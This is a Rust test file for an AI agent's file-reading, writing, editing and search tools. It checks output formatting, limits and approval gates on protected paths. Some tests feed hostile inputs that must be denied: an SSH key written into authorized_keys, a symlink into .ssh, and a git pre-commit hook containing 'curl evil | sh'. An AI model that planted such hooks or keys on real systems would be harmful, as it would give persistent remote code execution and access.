//! The file tools end to end on a real temporary directory. A `ToolCtx` needs a live
//! `JobsHandle` (the job registry actor), so these tests drive the functions the `Tool`
//! impls call (`read_file_at`, `write_file_at`, `edit_file_at`, `search_at`) — the impls
//! only resolve the path and read arguments — plus the tools' metadata through the trait.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use pretty_assertions::assert_eq;
use serde_json::{json, Value};
use tokio::sync::mpsc::UnboundedReceiver;
use tokio_util::sync::CancellationToken;

use talaria::config::Config;
use talaria::engine::approval::{Approver, PromptPolicy};
use talaria::engine::tools::files::{self, edit_file_at, read_file_at, write_file_at, Edit};
use talaria::engine::tools::search::{self, search_at};
use talaria::engine::tools::{Concurrency, Registry, ToolResult};
use talaria::engine::EventSink;
use talaria::protocol::{Approval, Event};

const BIG: usize = 50_000;

fn temp() -> tempfile::TempDir {
    tempfile::tempdir().expect("temp dir")
}

fn approver(policy: PromptPolicy) -> (Approver, UnboundedReceiver<Event>) {
    let (events, rx) = EventSink::channel();
    (Approver::new(&Config::default(), policy, None, events), rx)
}

fn err(r: &ToolResult) -> String {
    assert!(!r.ok, "expected an error, got {:?}", r.value);
    r.value["error"].as_str().expect("error text").to_string()
}

fn ok(r: &ToolResult) -> &Value {
    assert!(r.ok, "expected success, got {:?}", r.value);
    &r.value
}

// ------------------------------------------------------------------------------------------
// read_file

#[test]
fn read_numbers_lines_and_pages() {
    let dir = temp();
    let path = dir.path().join("ten.txt");
    let text: String = (1..=10).map(|i| format!("line {i}\n")).collect();
    fs::write(&path, text).unwrap();

    let r = read_file_at(&path, Some(3), Some(2), BIG);
    let v = ok(&r);
    assert_eq!(v["content"], "     3│line 3\n     4│line 4");
    assert_eq!(v["total_lines"], 10);
    assert_eq!(v["showing"], "lines 3-4 of 10");
    assert_eq!(v["path"], path.display().to_string());
    assert_eq!(v["note"], "Showing lines 3-4 of 10. Use offset=5 to read more.");

    let all = read_file_at(&path, None, None, BIG);
    let v = ok(&all);
    assert_eq!(v["showing"], "lines 1-10 of 10");
    assert!(v.get("note").is_none());
    assert!(v["content"].as_str().unwrap().ends_with("    10│line 10"));
}

#[test]
fn read_default_limit_and_character_cap() {
    let dir = temp();
    let path = dir.path().join("long.txt");
    let text: String = (1..=3000).map(|i| format!("row {i}\n")).collect();
    fs::write(&path, text).unwrap();

    let r = read_file_at(&path, None, None, 1_000_000);
    assert_eq!(ok(&r)["showing"], "lines 1-2000 of 3000");

    let capped = read_file_at(&path, Some(100), None, 1_000);
    let v = ok(&capped);
    let content = v["content"].as_str().unwrap();
    assert!(content.chars().count() <= 1_000);
    let shown = v["showing"].as_str().unwrap();
    assert!(shown.starts_with("lines 100-"), "{shown}");
    let note = v["note"].as_str().unwrap();
    assert!(note.contains("capped at 1000 characters"), "{note}");
}

#[test]
fn read_handles_odd_text() {
    let dir = temp();
    let crlf = dir.path().join("crlf.txt");
    fs::write(&crlf, "a\r\nb\r\n").unwrap();
    assert_eq!(ok(&read_file_at(&crlf, None, None, BIG))["content"], "     1│a\n     2│b");

    let empty = dir.path().join("empty.txt");
    fs::write(&empty, "").unwrap();
    let r = read_file_at(&empty, None, None, BIG);
    assert_eq!(ok(&r)["total_lines"], 0);
    assert_eq!(r.value["showing"], "empty file");

    let latin1 = dir.path().join("latin1.txt");
    fs::write(&latin1, b"caf\xe9\n").unwrap();
    assert_eq!(ok(&read_file_at(&latin1, None, None, BIG))["content"], "     1│caf\u{FFFD}");

    let wide = dir.path().join("wide.txt");
    fs::write(&wide, "x".repeat(5_000)).unwrap();
    let content = read_file_at(&wide, None, None, BIG).value["content"].as_str().unwrap().to_string();
    assert!(content.ends_with("… [line cut: 5000 characters]"), "{}", &content[content.len() - 60..]);

    let r = read_file_at(&crlf, Some(3), None, BIG);
    assert_eq!(
        err(&r),
        format!("offset 3 is past the end of {}, which has 2 lines; use an offset from 1 to 2", crlf.display())
    );
}

#[test]
fn read_refuses_binary_huge_and_directories() {
    let dir = temp();
    let bin = dir.path().join("blob.bin");
    fs::write(&bin, b"\x7fELF\x00\x01\x02text").unwrap();
    assert!(err(&read_file_at(&bin, None, None, BIG)).contains("binary file"));
    // A NUL far past the start counts too, whatever range is read.
    let late = dir.path().join("late.dat");
    let mut text = "plain text line\n".repeat(2_000).into_bytes();
    text.extend_from_slice(b"\x00\x01 binary tail\n");
    fs::write(&late, &text).unwrap();
    assert!(err(&read_file_at(&late, Some(2_001), Some(1), BIG)).contains("binary file"));
    assert!(err(&read_file_at(&late, None, None, BIG)).contains("binary file"));
    // Huge offsets and limits neither overflow nor wrap.
    let small = dir.path().join("small.txt");
    fs::write(&small, "one\ntwo\n").unwrap();
    let e = err(&read_file_at(&small, Some(u64::MAX), Some(u64::MAX), BIG));
    assert!(e.contains("past the end"), "{e}");
    let all = read_file_at(&small, Some(1), Some(u64::MAX), BIG);
    assert!(all.ok && all.value["content"].as_str().unwrap().contains("two"), "{:?}", all.value);

    let huge = dir.path().join("huge.log");
    fs::File::create(&huge).unwrap().set_len(files::MAX_FILE_BYTES + 1).unwrap();
    let e = err(&read_file_at(&huge, None, None, BIG));
    assert!(e.contains("over the 10 MiB limit"), "{e}");

    let e = err(&read_file_at(dir.path(), None, None, BIG));
    assert!(e.contains("is a directory"), "{e}");
}

#[test]
fn read_missing_file_suggests_checking_the_path() {
    let dir = temp();
    fs::write(dir.path().join("README.md"), "hi").unwrap();
    let e = err(&read_file_at(&dir.path().join("readme.md"), None, None, BIG));
    assert!(e.starts_with("File not found:"), "{e}");
    assert!(e.contains("Check the path"), "{e}");
    assert!(e.contains("similar names there: README.md"), "{e}");

    let e = err(&read_file_at(&dir.path().join("nope/file.rs"), None, None, BIG));
    assert!(e.contains("does not exist either"), "{e}");
}

// ------------------------------------------------------------------------------------------
// write_file

#[tokio::test]
async fn write_creates_parents_and_reports_creation() {
    let dir = temp();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let stop = CancellationToken::new();
    let path = dir.path().join("a/b/c.txt");

    let r = write_file_at(&path, "one\ntwo\n", &approvals, &stop).await;
    assert_eq!(
        ok(&r),
        &json!({"status": "ok", "path": path.display().to_string(), "bytes": 8, "lines": 2, "created": true})
    );
    assert_eq!(fs::read_to_string(&path).unwrap(), "one\ntwo\n");

    let r = write_file_at(&path, "", &approvals, &stop).await;
    assert_eq!(ok(&r)["created"], false);
    assert_eq!(fs::read_to_string(&path).unwrap(), "");

    let e = err(&write_file_at(dir.path(), "x", &approvals, &stop).await);
    assert!(e.contains("is a directory"), "{e}");
}

/// Answer the next approval prompt with `answer` and return its (command, reason).
async fn answer_next(rx: &mut UnboundedReceiver<Event>, approvals: &Approver, answer: Approval) -> (String, String) {
    loop {
        let event = tokio::time::timeout(Duration::from_secs(20), rx.recv())
            .await
            .expect("an approval prompt within 20 s")
            .expect("event channel open");
        if let Event::ApprovalNeeded { id, command, reason, .. } = event {
            approvals.answer(id, answer);
            return (command, reason);
        }
    }
}

#[tokio::test]
async fn write_into_ssh_dir_asks_and_respects_a_denial() {
    let dir = temp();
    let (approvals, mut rx) = approver(PromptPolicy::Ask);
    let path = dir.path().join(".ssh/authorized_keys");

    let task = {
        let approvals = approvals.clone();
        let path = path.clone();
        tokio::spawn(
            async move { write_file_at(&path, "ssh-ed25519 AAAA", &approvals, &CancellationToken::new()).await },
        )
    };
    let (command, reason) = answer_next(&mut rx, &approvals, Approval::Deny).await;
    assert_eq!(command, format!("write {}", path.display()));
    assert!(reason.contains("log in"), "{reason}");
    let r = task.await.unwrap();
    assert_eq!(r.status.map(|s| s.as_str()), Some("denied"));
    assert_eq!(r.value["status"], "denied");
    assert!(err(&r).contains("not allowed"));
    assert!(!path.exists(), "a denied write must not touch the disk");

    // Approved once: written, and the result says who allowed it.
    let task = {
        let approvals = approvals.clone();
        let path = path.clone();
        tokio::spawn(async move { write_file_at(&path, "key", &approvals, &CancellationToken::new()).await })
    };
    answer_next(&mut rx, &approvals, Approval::Once).await;
    let r = task.await.unwrap();
    assert_eq!(ok(&r)["approval"], "approved by the user");
    assert_eq!(fs::read_to_string(&path).unwrap(), "key");
}

/// DESIGN §6: inside the writable roots a write just happens; outside them (and not under
/// any protected path) it asks, and a denial leaves the disk alone. The roots are set
/// explicitly: the default policy counts the temp dir, where these tests live, as a root.
#[tokio::test]
async fn a_write_outside_the_writable_roots_asks() {
    use talaria::config::SandboxMode;
    use talaria::engine::sandbox::Policy;
    let dir = temp();
    let base = fs::canonicalize(dir.path()).unwrap();
    let (root, elsewhere) = (base.join("root"), base.join("elsewhere"));
    fs::create_dir_all(&root).unwrap();
    let policy = Policy {
        mode: SandboxMode::WorkspaceWrite,
        network: true,
        proxy_only: false,
        proxy_port: None,
        writable_roots: vec![root.clone()],
        deny_read: vec![],
        deny_write: vec![],
        job_files: vec![],
        view: None,
        git_guard: None,
        git_start: Default::default(),
        workspace: Default::default(),
        allow_unix_sockets: vec![],
        limits: Default::default(),
    };
    let (approvals, mut rx) = approver(PromptPolicy::Ask);
    approvals.set_sandbox_policy(policy.clone());
    let stop = CancellationToken::new();

    let inside = root.join("src/notes.txt");
    assert_eq!(ok(&write_file_at(&inside, "in\n", &approvals, &stop).await)["created"], true);
    assert!(rx.try_recv().is_err(), "a write inside a root asks nothing");

    let outside = elsewhere.join("notes.txt");
    let write = |content: &'static str| {
        let (approvals, path) = (approvals.clone(), outside.clone());
        tokio::spawn(async move { write_file_at(&path, content, &approvals, &CancellationToken::new()).await })
    };
    let task = write("out\n");
    let (command, reason) = answer_next(&mut rx, &approvals, Approval::Deny).await;
    assert_eq!(command, format!("write {}", outside.display()));
    assert_eq!(reason, "outside the writable roots");
    let r = task.await.unwrap();
    assert_eq!(r.value["status"], "denied", "{:?}", r.value);
    assert!(!outside.exists() && !elsewhere.exists(), "a denied write creates nothing");

    let task = write("out\n");
    answer_next(&mut rx, &approvals, Approval::Once).await;
    assert_eq!(ok(&task.await.unwrap())["approval"], "approved by the user");
    assert_eq!(fs::read_to_string(&outside).unwrap(), "out\n");

    // Unattended (exec without --yes), the same write is denied without a prompt.
    let (unattended, _rx) = approver(PromptPolicy::DenyUnattended);
    unattended.set_sandbox_policy(policy);
    let r = write_file_at(&elsewhere.join("other.txt"), "x", &unattended, &stop).await;
    assert_eq!(r.value["status"], "denied", "{:?}", r.value);
    assert!(!elsewhere.join("other.txt").exists());
}

#[tokio::test]
async fn a_symlink_into_a_protected_place_is_judged_by_its_target() {
    let dir = temp();
    fs::create_dir(dir.path().join(".ssh")).unwrap();
    std::os::unix::fs::symlink(dir.path().join(".ssh"), dir.path().join("innocent")).unwrap();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let path = dir.path().join("innocent/config");
    let r = write_file_at(&path, "Host *", &approvals, &CancellationToken::new()).await;
    assert_eq!(r.status.map(|s| s.as_str()), Some("denied"));
    assert!(err(&r).contains("--yes"), "{:?}", r.value);
    assert!(!path.exists());
}

#[tokio::test]
async fn an_interrupt_while_waiting_denies_the_write() {
    let dir = temp();
    let (approvals, mut rx) = approver(PromptPolicy::Ask);
    let stop = CancellationToken::new();
    let path = dir.path().join(".ssh/config");
    let task = {
        let (approvals, path, stop) = (approvals.clone(), path.clone(), stop.clone());
        tokio::spawn(async move { write_file_at(&path, "x", &approvals, &stop).await })
    };
    let _ = tokio::time::timeout(Duration::from_secs(20), rx.recv()).await.expect("prompt");
    stop.cancel();
    let r = task.await.unwrap();
    assert_eq!(r.status.map(|s| s.as_str()), Some("denied"));
    assert!(!path.exists());
}

// ------------------------------------------------------------------------------------------
// edit_file

fn edit(old: &str, new: &str, replace_all: bool) -> Edit {
    Edit { old_string: old.into(), new_string: new.into(), replace_all }
}

#[tokio::test]
async fn edit_replaces_a_unique_passage_and_keeps_permissions() {
    let dir = temp();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let stop = CancellationToken::new();
    let path = dir.path().join("run.sh");
    fs::write(&path, "#!/bin/sh\necho one\necho two\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();

    let r = edit_file_at(&path, &edit("echo two", "echo 2", false), &approvals, &stop).await;
    let v = ok(&r);
    assert_eq!(v["status"], "ok");
    assert_eq!(v["replacements"], 1);
    assert_eq!(v["line"], 3);
    assert_eq!(v["snippet"], "     1│#!/bin/sh\n     2│echo one\n     3│echo 2");
    assert_eq!(fs::read_to_string(&path).unwrap(), "#!/bin/sh\necho one\necho 2\n");
    assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o755);
}

#[tokio::test]
async fn edit_errors_name_the_problem() {
    let dir = temp();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let stop = CancellationToken::new();
    let path = dir.path().join("f.txt");
    fs::write(&path, "a\nb\na\n").unwrap();
    let shown = path.display().to_string();

    let e = err(&edit_file_at(&path, &edit("a", "z", false), &approvals, &stop).await);
    assert_eq!(
        e,
        format!("old_string is ambiguous: 2 matches in {shown} (lines 1, 3); add context or set replace_all")
    );

    let e = err(&edit_file_at(&path, &edit("q", "z", false), &approvals, &stop).await);
    assert!(e.starts_with(&format!("old_string was not found in {shown}")), "{e}");

    let e = err(&edit_file_at(&path, &edit("a", "a", false), &approvals, &stop).await);
    assert!(e.contains("the same"), "{e}");

    let e = err(&edit_file_at(&dir.path().join("missing.txt"), &edit("a", "b", false), &approvals, &stop).await);
    assert!(e.starts_with("File not found"), "{e}");
    assert!(e.contains("use write_file to create"), "{e}");

    let bin = dir.path().join("b.bin");
    fs::write(&bin, b"a\x00b").unwrap();
    assert!(err(&edit_file_at(&bin, &edit("a", "b", false), &approvals, &stop).await).contains("binary"));

    let latin1 = dir.path().join("l.txt");
    fs::write(&latin1, b"caf\xe9").unwrap();
    assert!(err(&edit_file_at(&latin1, &edit("caf", "tea", false), &approvals, &stop).await).contains("UTF-8"));

    // Nothing above changed the file.
    assert_eq!(fs::read_to_string(&path).unwrap(), "a\nb\na\n");

    let r = edit_file_at(&path, &edit("a", "z", true), &approvals, &stop).await;
    assert_eq!(ok(&r)["replacements"], 2);
    assert_eq!(fs::read_to_string(&path).unwrap(), "z\nb\nz\n");
}

#[tokio::test]
async fn edit_in_a_protected_place_is_checked_before_writing() {
    let dir = temp();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let path = dir.path().join(".ssh/config");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, "Host a\n").unwrap();
    let r = edit_file_at(&path, &edit("Host a", "Host b", false), &approvals, &CancellationToken::new()).await;
    assert_eq!(r.status.map(|s| s.as_str()), Some("denied"));
    assert_eq!(fs::read_to_string(&path).unwrap(), "Host a\n");

    let (allow, _rx) = approver(PromptPolicy::AllowUnattended);
    let r = edit_file_at(&path, &edit("Host a", "Host b", false), &allow, &CancellationToken::new()).await;
    assert_eq!(ok(&r)["approval"], "approved by --yes");
    assert_eq!(fs::read_to_string(&path).unwrap(), "Host b\n");
}

// ------------------------------------------------------------------------------------------
// search_files

fn tree() -> tempfile::TempDir {
    let dir = temp();
    let p = dir.path();
    fs::create_dir_all(p.join("src/deep")).unwrap();
    fs::create_dir_all(p.join("target")).unwrap();
    fs::create_dir_all(p.join(".hidden")).unwrap();
    fs::write(p.join(".gitignore"), "target/\n*.log\n").unwrap();
    fs::write(p.join("src/main.rs"), "fn main() {\n    needle();\n}\n").unwrap();
    fs::write(p.join("src/deep/lib.rs"), "// needle in a lib\npub fn f() {}\n").unwrap();
    fs::write(p.join("notes.md"), "a needle in notes\n").unwrap();
    fs::write(p.join("target/out.rs"), "needle ignored\n").unwrap();
    fs::write(p.join("debug.log"), "needle ignored\n").unwrap();
    fs::write(p.join(".hidden/secret.rs"), "needle hidden\n").unwrap();
    fs::write(p.join("image.bin"), b"needle\x00\x01binary").unwrap();
    dir
}

#[test]
fn search_honours_gitignore_hidden_and_binary() {
    let dir = tree();
    let r = search_at(dir.path(), "needle", None, BIG, &CancellationToken::new());
    assert_eq!(
        ok(&r),
        &json!({
            "matches": "notes.md:1:a needle in notes\nsrc/deep/lib.rs:1:// needle in a lib\nsrc/main.rs:2:    needle();",
            "count": 3,
            "truncated": false,
        })
    );
}

#[test]
fn search_filters_by_glob_and_path() {
    let dir = tree();
    let stop = CancellationToken::new();
    let r = search_at(dir.path(), r"needle", Some("*.rs"), BIG, &stop);
    assert_eq!(ok(&r)["matches"], "src/deep/lib.rs:1:// needle in a lib\nsrc/main.rs:2:    needle();");

    let r = search_at(&dir.path().join("src"), r"fn \w+\(", None, BIG, &stop);
    assert_eq!(ok(&r)["matches"], "deep/lib.rs:2:pub fn f() {}\nmain.rs:1:fn main() {");

    let r = search_at(&dir.path().join("src/main.rs"), "needle", None, BIG, &stop);
    assert_eq!(ok(&r)["matches"], "main.rs:2:    needle();");

    let r = search_at(dir.path(), "needle", Some("!src/**"), BIG, &stop);
    assert_eq!(ok(&r)["matches"], "notes.md:1:a needle in notes");

    let r = search_at(dir.path(), "no such text", None, BIG, &stop);
    assert_eq!(ok(&r)["count"], 0);
    assert!(r.value["note"].as_str().unwrap().starts_with("No matches"));
}

#[test]
fn search_caps_matches_and_long_lines() {
    let dir = temp();
    let many: String = (0..500).map(|i| format!("hit {i}\n")).collect();
    fs::write(dir.path().join("many.txt"), many).unwrap();
    fs::write(dir.path().join("wide.txt"), format!("hit {}\n", "w".repeat(1_000))).unwrap();
    let r = search_at(dir.path(), "hit", None, BIG, &CancellationToken::new());
    let v = ok(&r);
    assert_eq!(v["count"], search::MAX_MATCHES);
    assert_eq!(v["truncated"], true);
    assert!(v["note"].as_str().unwrap().contains("narrow"));

    let r = search_at(&dir.path().join("wide.txt"), "hit", None, BIG, &CancellationToken::new());
    let line = ok(&r)["matches"].as_str().unwrap().to_string();
    assert!(line.ends_with("… [1004 chars]"), "{line}");
    assert!(line.chars().count() < 400);

    let r = search_at(dir.path(), "hit", None, 1_000, &CancellationToken::new());
    assert!(ok(&r)["matches"].as_str().unwrap().len() <= 1_000);
    assert_eq!(r.value["truncated"], true);
}

#[test]
fn search_errors_are_clear() {
    let dir = tree();
    let stop = CancellationToken::new();
    let e = err(&search_at(dir.path(), "fn main(", None, BIG, &stop));
    assert!(e.starts_with("invalid regex \"fn main(\""), "{e}");
    assert!(e.contains("backslash"), "{e}");

    let e = err(&search_at(&dir.path().join("nowhere"), "x", None, BIG, &stop));
    assert!(e.contains("does not exist"), "{e}");

    assert!(err(&search_at(dir.path(), "", None, BIG, &stop)).contains("empty"));

    stop.cancel();
    let r = search_at(dir.path(), "needle", None, BIG, &stop);
    assert_eq!(r.status.map(|s| s.as_str()), Some("interrupted"));
}

// ------------------------------------------------------------------------------------------
// What the model sees of the tools.

#[test]
fn tools_describe_themselves() {
    let registry = Registry::standard();
    let cases: [(&str, Concurrency, &[&str]); 4] = [
        ("read_file", Concurrency::Parallel, &["path"]),
        ("write_file", Concurrency::Sequential, &["path", "content"]),
        ("edit_file", Concurrency::Sequential, &["path", "old_string", "new_string"]),
        ("search_files", Concurrency::Parallel, &["pattern"]),
    ];
    for (name, concurrency, required) in cases {
        let tool = registry.get(name).expect(name);
        assert_eq!(tool.concurrency(), concurrency, "{name}");
        assert!(tool.description().len() > 80, "{name} needs a real description");
        let params = tool.parameters();
        assert_eq!(params["type"], "object", "{name}");
        assert_eq!(params["required"], json!(required), "{name}");
        for key in required {
            assert!(params["properties"][key]["description"].is_string(), "{name}.{key}");
        }
        assert!(!tool.summary(&json!({"path": "p", "pattern": "x"})).is_empty(), "{name}");
    }
}

#[tokio::test]
async fn git_hooks_a_dangling_symlink_and_a_fifo_are_not_written_without_asking() {
    let dir = temp();
    let (approvals, _rx) = approver(PromptPolicy::DenyUnattended);
    let stop = CancellationToken::new();
    // .git/hooks: the user's next git command would run it.
    let hook = dir.path().join("repo/.git/hooks/pre-commit");
    let r = write_file_at(&hook, "#!/bin/sh\ncurl evil | sh\n", &approvals, &stop).await;
    assert_eq!(r.value["status"], "denied", "{:?}", r.value);
    assert!(!hook.exists());
    // A dangling symlink whose target is a protected place is judged by that target.
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join(".ssh/authorized_keys");
    std::os::unix::fs::symlink(&target, dir.path().join("notes.txt")).unwrap();
    let r = write_file_at(&dir.path().join("notes.txt"), "ssh-ed25519 AAAA", &approvals, &stop).await;
    assert_eq!(r.value["status"], "denied", "{:?}", r.value);
    assert!(!target.exists() && !outside.path().join(".ssh").exists());
    // A FIFO is neither read (it would block) nor written.
    let fifo = dir.path().join("pipe");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let e = err(&read_file_at(&fifo, None, None, BIG));
    assert!(e.contains("not a regular file"), "{e}");
    let e = err(&write_file_at(&fifo, "x", &approvals, &stop).await);
    assert!(e.contains("not a regular file"), "{e}");
}
